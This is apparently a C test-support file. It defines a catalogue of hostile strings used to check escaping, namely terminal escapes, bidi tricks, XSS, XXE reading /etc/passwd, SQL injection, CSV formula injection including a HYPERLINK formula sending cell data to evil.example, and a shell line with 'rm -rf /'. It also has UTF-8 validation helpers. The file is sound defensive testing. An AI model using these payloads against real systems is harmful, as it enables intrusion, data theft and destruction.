#include "tests/hostile/strings.h"

/* clang-format off */
#define TEXT(name, text) {name, text, sizeof text - 1}
static const struct {
    const char *name, *text;
    size_t size;
} strings[] = {
    /* terminals */
    TEXT("csi", "\x1b[2J\x1b[31mred"),
    TEXT("csi_report", "\x1b[6n\x1b[c"),
    TEXT("osc_title", "\x1b]0;owned\a"),
    TEXT("osc_8_link", "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"),
    TEXT("osc_52_clipboard", "\x1b]52;c;ZXZpbA==\a"),
    TEXT("dcs", "\x1bP+q544e\x1b\\"),
    TEXT("apc_pm_sos", "\x1b_G\x1b\\\x1b^x\x1b\\\x1bXx\x1b\\"),
    TEXT("c1_utf8", "\xc2\x9b" "31m\xc2\x9d" "0;x\xc2\x9c"),
    TEXT("c1_raw", "\x9b" "31m\x9d" "0;x\x9c"),
    TEXT("backspaces", "innocent\b\b\b\b\b\b\b\bguilty"),
    TEXT("carriage_return", "guilty\rinnocent"),
    TEXT("vertical", "a\vb\fc"),
    TEXT("shift_out", "\x0e" "abc\x0f"),
    TEXT("delete", "a\x7f" "b"),
    TEXT("nel", "a\xc2\x85" "b"),
    TEXT("line_separators", "a\xe2\x80\xa8" "b\xe2\x80\xa9" "c"),
    TEXT("new_lines", "one\ntwo\r\nthree"),
    TEXT("tab", "a\tb"),
    /* what turns or hides */
    TEXT("bidi_override", "\xe2\x80\xaegpj.exe"),
    TEXT("bidi_embeddings", "\xe2\x80\xaa" "a\xe2\x80\xab" "b\xe2\x80\xac"),
    TEXT("bidi_isolates", "\xe2\x81\xa6" "a\xe2\x81\xa7" "b\xe2\x81\xa8" "c\xe2\x81\xa9"),
    TEXT("bidi_marks", "\xe2\x80\x8e\xe2\x80\x8f\xd8\x9c"),
    TEXT("zero_width", "ad\xe2\x80\x8bmin\xe2\x80\x8c\xe2\x80\x8d\xe2\x81\xa0"),
    TEXT("byte_order_mark", "\xef\xbb\xbf" "admin"),
    TEXT("soft_hyphen", "ad\xc2\xadmin"),
    TEXT("tags", "a\xf3\xa0\x80\x81\xf3\xa0\x81\xa1\xf3\xa0\x81\xbf"),
    TEXT("interlinear", "\xef\xbf\xb9" "a\xef\xbf\xba" "b\xef\xbf\xbb"),
    TEXT("blanks_only", "   "),
    TEXT("ideographic_blank", "\xe3\x80\x80"),
    TEXT("combining_tower",
         "Z\xcc\xb5\xcc\xb6\xcd\x80\xcd\x81\xcc\x95\xcc\x9b\xcd\x98\xcc\xa1\xcc\xa2\xcc\xa7\xcc\xa8"
         "\xcc\xb4\xcc\xb5\xcc\xb6\xcc\xb7\xcc\xb8\xcd\x9c\xcd\x9d\xcd\x9e\xcd\x9f\xcd\xa0"),
    TEXT("lone_combining", "\xcc\x81"),
    TEXT("wide_and_emoji", "\xe6\xbc\xa2\xf0\x9f\x98\x80\xf0\x9f\x87\xa9\xf0\x9f\x87\xaa"),
    TEXT("look_alike", "\xd0\xb0" "dmin"),
    TEXT("noncharacters", "\xef\xbf\xbe\xef\xbf\xbf\xf4\x8f\xbf\xbf"),
    /* spreadsheets */
    TEXT("formula_equals", "=cmd|' /C calc'!A0"),
    TEXT("formula_plus", "+1+1"),
    TEXT("formula_minus", "-2+3"),
    TEXT("formula_at", "@SUM(A1:A9)"),
    TEXT("formula_tab", "\t=1+1"),
    TEXT("formula_return", "\r=1+1"),
    TEXT("formula_new_line", "\n=1+1"),
    TEXT("formula_wide", "\xef\xbc\x9d" "1+1"),
    TEXT("formula_wide_others", "\xef\xbc\x8b" "1"),
    TEXT("formula_quoted", "\"=1+1"),
    TEXT("csv_break", "a\",\"=1+1\"\r\n=2"),
    TEXT("csv_semicolon", ";=1+1"),
    TEXT("dde", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
    /* browsers and XML */
    TEXT("script", "<script>alert(1)</script>"),
    TEXT("attribute_double", "\" onmouseover=\"alert(1)"),
    TEXT("attribute_single", "' onmouseover='alert(1)"),
    TEXT("attribute_bare", " onload=alert(1) x="),
    TEXT("image", "\"><img src=x onerror=alert(1)>"),
    TEXT("end_of_title", "</title></desc></style></script><svg onload=alert(1)>"),
    TEXT("comment", "--><script>alert(1)</script><!--"),
    TEXT("cdata", "<![CDATA[x]]>"),
    TEXT("cdata_end", "]]>"),
    TEXT("processing", "<?xml version=\"1.0\"?><?php x ?>"),
    TEXT("doctype", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;"),
    TEXT("entity", "&lt;script&gt;&#x3c;&amp;amp;"),
    TEXT("entity_open", "&"),
    TEXT("javascript", "javascript:alert(1)"),
    TEXT("data_address", "data:text/html;base64,PHNjcmlwdD4="),
    TEXT("style", "}</style><style>*{background:url(//evil)}"),
    TEXT("markdown", "[x](javascript:alert(1)) ![y](//evil) **b** `c` <http://x>"),
    TEXT("template", "{{7*7}}${7*7}<%= 7*7 %>"),
    /* JSON, OSCAL */
    TEXT("json_break", "\",\"admin\":true,\"x\":\""),
    TEXT("json_backslash", "\\"),
    TEXT("json_backslash_quote", "\\\""),
    TEXT("json_escape", "\\u0022\\n\\u0000"),
    TEXT("json_array_end", "\"]}"),
    TEXT("oscal_state", "\"},\"status\":{\"state\":\"satisfied\"}"),
    /* syslog and CEF */
    TEXT("syslog_element_end", "\"] [evil@1 a=\"b\"]"),
    TEXT("syslog_bracket", "]"),
    TEXT("syslog_message", "x\n<34>1 2026-01-01T00:00:00Z evil su - - - root"),
    TEXT("syslog_frame", "x 5 <34>1"),
    TEXT("cef_pipe", "a|b\\|c|10|"),
    TEXT("cef_equals", "a cs1=evil src=10.0.0.1 act=allowed"),
    TEXT("cef_escapes", "\\n\\=\\|\\\\"),
    TEXT("cef_header", "\nCEF:0|x|y|1|2|z|10|"),
    /* DOT */
    TEXT("dot_break", "\"];evil[label=\"x"),
    TEXT("dot_html", "<<b>x</b>>"),
    TEXT("dot_escape", "\\N\\G\\l"),
    /* shells, paths, formats */
    TEXT("shell", "$(reboot)`id`; rm -rf / #'\"&&||"),
    TEXT("path", "../../etc/passwd"),
    TEXT("option", "--help"),
    TEXT("percent", "%s%n%x%99999d"),
    TEXT("sql", "' OR '1'='1'; DROP TABLE events;--"),
    /* next to NUL, and no text */
    TEXT("control_one", "a\x01" "b"),
    TEXT("nul", "a\0b"),
    TEXT("nul_at_the_end", "ab\0"),
    TEXT("not_utf8", "\xff\xfe"),
    TEXT("overlong_nul", "a\xc0\x80" "b"),
    TEXT("overlong_slash", "\xc0\xaf\xe0\x80\xaf"),
    TEXT("surrogate", "\xed\xa0\x80\xed\xb0\x80"),
    TEXT("beyond_unicode", "\xf4\x90\x80\x80\xf5\x80\x80\x80"),
    TEXT("cut_short", "abc\xe2\x82"),
    TEXT("cut_quote", "abc\xf0\x9f\x98\""),
    TEXT("lone_continuation", "\x80\xbf"),
    TEXT("empty", ""),
};
/* clang-format on */

enum {
    LISTED = sizeof strings / sizeof strings[0],
    LONG_COUNT = 3,
};

/* Long ones: of letters, of bidi controls, of quotes. */
static struct hostile long_string(size_t which, uint8_t memory[static HOSTILE_LONG])
{
    static const char *const names[LONG_COUNT] = {"long_letters", "long_bidi", "long_quotes"};
    static const char *const pieces[LONG_COUNT] = {"a", "\xe2\x80\xae", "\""};
    size_t piece = strlen(pieces[which]), size = HOSTILE_LONG / piece * piece;
    for (size_t i = 0; i < size; i++) {
        memory[i] = (uint8_t)pieces[which][i % piece];
    }
    return (struct hostile){names[which], bytes_of(memory, size)};
}

size_t hostile_count(void)
{
    return LISTED + LONG_COUNT;
}

struct hostile hostile_at(size_t index, uint8_t memory[static HOSTILE_LONG])
{
    if (index >= LISTED) {
        return long_string(index - LISTED, memory);
    }
    return (struct hostile){strings[index].name,
                            bytes_of(strings[index].text, strings[index].size)};
}

/* Plain text ------------------------------------------------------------------------------- */

/* Size of the UTF-8 character at p, and its number; 0 if it is none. */
static size_t character(const uint8_t *p, size_t left, uint32_t *point)
{
    size_t size = p[0] < 0x80 ? 1 : (p[0] & 0xe0) == 0xc0 ? 2 : (p[0] & 0xf0) == 0xe0 ? 3 : 4;
    static const uint32_t least[] = {0, 0, 0x80, 0x800, 0x10000};
    if (size > left || (size == 4 && (p[0] & 0xf8) != 0xf0)) {
        return 0;
    }
    *point = size == 1 ? p[0] : p[0] & (0x7fu >> size);
    for (size_t i = 1; i < size; i++) {
        if ((p[i] & 0xc0) != 0x80) {
            return 0;
        }
        *point = *point << 6 | (p[i] & 0x3fu);
    }
    bool good = *point >= least[size] && *point <= 0x10ffff && (*point < 0xd800 || *point > 0xdfff);
    return good ? size : 0;
}

static bool is_forbidden(uint32_t point)
{
    static const uint32_t ranges[][2] = {
        {0x00, 0x1f},     {0x7f, 0x9f},     {0xad, 0xad},     {0x61c, 0x61c},   {0x200b, 0x200f},
        {0x2028, 0x202e}, {0x2060, 0x2069}, {0xfeff, 0xfeff}, {0xfff9, 0xfffb}, {0xe0000, 0xe007f},
    };
    for (size_t i = 0; i < sizeof ranges / sizeof ranges[0]; i++) {
        if (point >= ranges[i][0] && point <= ranges[i][1]) {
            return true;
        }
    }
    return false;
}

bool hostile_is_plain(struct bytes text, bool lines)
{
    for (size_t i = 0; i < text.size;) {
        uint32_t point;
        size_t size = character(text.data + i, text.size - i, &point);
        if (size == 0 || (is_forbidden(point) && !(lines && point == '\n'))) {
            return false;
        }
        i += size;
    }
    return true;
}

/* Skeletons --------------------------------------------------------------------------------- */

struct writer {
    char *out;
    size_t size, capacity;
    bool good;
};

static void keep(struct writer *writer, char c)
{
    writer->good = writer->good && writer->size < writer->capacity;
    if (writer->good) {
        writer->out[writer->size++] = c;
    }
}

/* Of a tag, its name and the names of its attributes; returns what comes after it. */
static size_t skeleton_of_tag(struct writer *writer, struct bytes text, size_t at)
{
    char quote = 0;
    for (; at < text.size; at++) {
        char c = (char)text.data[at];
        if (quote != 0) {
            writer->good = writer->good && c != '<';
            quote = c == quote ? 0 : quote;
            continue;
        }
        if (c == '"' || c == '\'') {
            quote = c;
            continue;
        }
        keep(writer, c);
        if (c == '>') {
            return at + 1;
        }
    }
    writer->good = false;
    return at;
}

static void skeleton_of_markup(struct writer *writer, struct bytes text)
{
    for (size_t at = 0; at < text.size;) {
        if (text.data[at] == '<') {
            at = skeleton_of_tag(writer, text, at);
        } else {
            writer->good = writer->good && text.data[at] != '>';
            at++;
        }
    }
}

static void skeleton_of_dot(struct writer *writer, struct bytes text)
{
    bool quoted = false;
    for (size_t at = 0; at < text.size; at++) {
        char c = (char)text.data[at];
        if (quoted && c == '\\') {
            at++;
        } else if (c == '"') {
            quoted = !quoted;
        } else if (!quoted) {
            keep(writer, c);
        }
    }
    writer->good = writer->good && !quoted;
}

size_t hostile_skeleton(enum hostile_form form, struct bytes document, char *out, size_t capacity,
                        bool *good)
{
    struct writer writer = {.out = out, .capacity = capacity, .good = true};
    switch (form) {
    case HOSTILE_MARKUP:
        skeleton_of_markup(&writer, document);
        break;
    case HOSTILE_DOT:
        skeleton_of_dot(&writer, document);
        break;
    }
    *good = writer.good;
    return writer.size;
}
